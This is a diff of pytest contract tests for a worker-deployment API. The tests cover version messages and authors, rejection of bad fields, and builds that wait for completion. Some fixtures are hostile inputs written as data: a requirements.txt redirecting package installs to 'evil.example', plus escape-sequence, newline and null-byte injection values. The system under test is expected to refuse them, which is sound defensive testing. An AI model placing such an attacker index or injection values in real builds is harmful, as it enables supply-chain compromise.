@@ -9,13 +9,14 @@ from concurrent.futures import ThreadPoolExecutor
 import pytest
 from tests.contract.bundles import GZIP, ZIP, Files, deploy, send, send_form, tar_gz_of, zip_of
 from tests.contract.client import ECHO, TIME, Api, Json, data_of, error_of, fields_of
+from tests.contract.conftest import MakeKey
 
 from runwright.workers.bundles.members import MemberKind
 from runwright.workers.bundles.tar import END, canonical_header
 
 KEYS = {
     *("worker_id", "version", "status", "active", "source", "entrypoint", "source_code", "digest"),
-    *("size_bytes", "files", "error", "created_by", "created_at"),
+    *("size_bytes", "files", "error", "message", "author", "created_by", "created_at"),
 }
 MAIN: dict[str, str | bytes] = {"main.py": ECHO, "lib/data.txt": "data"}
 UNKNOWN = "wkr_01jd9x3v7m0000000000000000"
@@ -30,6 +31,7 @@ def versions_of(api: Api, worker: Json) -> list[Json]:
 def test_a_deploy_makes_a_version_that_serves(api: Api) -> None:
     worker = api.make_worker()
     version = deploy(api, worker["id"], MAIN)
+    assert version.pop("timed_out") is False
     assert version.keys() == KEYS
     assert TIME.fullmatch(version["created_at"])
     assert {name: version[name] for name in KEYS - {"created_at", "digest"}} == {
@@ -43,6 +45,8 @@ def test_a_deploy_makes_a_version_that_serves(api: Api) -> None:
         "size_bytes": len(ECHO) + 4,
         "files": 2,
         "error": None,
+        "message": None,
+        "author": "usr_test",
         "created_by": "usr_test",
     }
     now = data_of(api.get(f"/workers/{worker['id']}"))
@@ -109,6 +113,64 @@ def test_an_entrypoint_in_query_and_form_is_refused(api: Api) -> None:
         f"/v1/ava/workers/{worker['id']}/deploy?entrypoint=main.py", files=parts, headers=api.headers
     )
     assert fields_of(response).keys() == {"entrypoint"}
+
+
+def test_a_version_keeps_its_message_and_its_author(api: Api, make_key: MakeKey) -> None:
+    worker = api.make_worker()
+    path = f"/workers/{worker['id']}"
+    query = {"message": "Faster\n\tby half", "author": "Ada <ada@example.org>"}
+    made = data_of(send(api, worker["id"], zip_of(MAIN), **query), 201)
+    assert {name: made[name] for name in query} == query
+    assert made["created_by"] == "usr_test"
+    form = [("bundle", ("b.zip", zip_of({"main.py": ""}))), ("message", (None, b"By form"))]
+    assert data_of(send_form(api, worker["id"], form), 201)["message"] == "By form"
+    assert {name: data_of(api.get(f"{path}/versions/2"))[name] for name in query} == query
+    assert [(v["message"], v["author"]) for v in versions_of(api, worker)] == [
+        ("By form", "usr_test"),
+        (query["message"], query["author"]),
+        (None, "usr_test"),
+    ]
+    key = make_key(api.tenant, "tenant-system-admin")
+    bare = {"authorization": f"Bearer {key}", "content-type": ZIP}
+    body = zip_of({"main.py": "x = 1"})
+    by_key = data_of(api.http.post(f"/v1/ava{path}/deploy", content=body, headers=bare), 201)
+    assert by_key["author"] == by_key["created_by"]
+    named = data_of(api.post("/v1/keys", {"role": "tenant-system-admin", "name": "CI of main"}), 201)
+    bare["authorization"] = f"Bearer {named['key']}"
+    body = zip_of({"main.py": "x = 2"})
+    assert (
+        data_of(api.http.post(f"/v1/ava{path}/deploy", content=body, headers=bare), 201)["author"]
+        == "CI of main"
+    )
+
+
+@pytest.mark.parametrize(
+    ("query", "fields"),
+    [
+        ({"message": ""}, {"message"}),
+        ({"message": "x" * 1001, "author": "x" * 201}, {"message", "author"}),
+        ({"message": "\x1b[31m", "author": "two\nlines"}, {"message", "author"}),
+        ({"wait": "61"}, {"wait"}),
+        ({"wait": "-1"}, {"wait"}),
+        ({"wait": "soon"}, {"wait"}),
+    ],
+)
+def test_a_deploy_with_bad_fields_makes_nothing(api: Api, query: dict[str, str], fields: set[str]) -> None:
+    worker = api.make_worker()
+    assert fields_of(send(api, worker["id"], zip_of(MAIN), **query)).keys() == fields
+    parts = [("bundle", ("b.zip", zip_of(MAIN))), ("message", (None, b"\0"))]
+    assert fields_of(send_form(api, worker["id"], parts)).keys() == {"message"}
+    assert len(versions_of(api, worker)) == 1
+
+
+def test_a_deploy_that_waits_answers_with_the_end_of_the_build(api: Api) -> None:
+    worker = api.make_worker()
+    refused = zip_of({"main.py": ECHO, "requirements.txt": "--index-url https://evil.example/\n"})
+    failed = data_of(send(api, worker["id"], refused, wait="60"), 201)
+    assert (failed["status"], failed["timed_out"], failed["active"]) == ("failed", False, False)
+    assert "requirements.txt, line 1" in failed["error"]
+    ready = data_of(send(api, worker["id"], zip_of(MAIN), wait="60"), 201)
+    assert (ready["status"], ready["timed_out"], ready["active"]) == ("ready", False, True)
 
 
 @pytest.mark.parametrize(
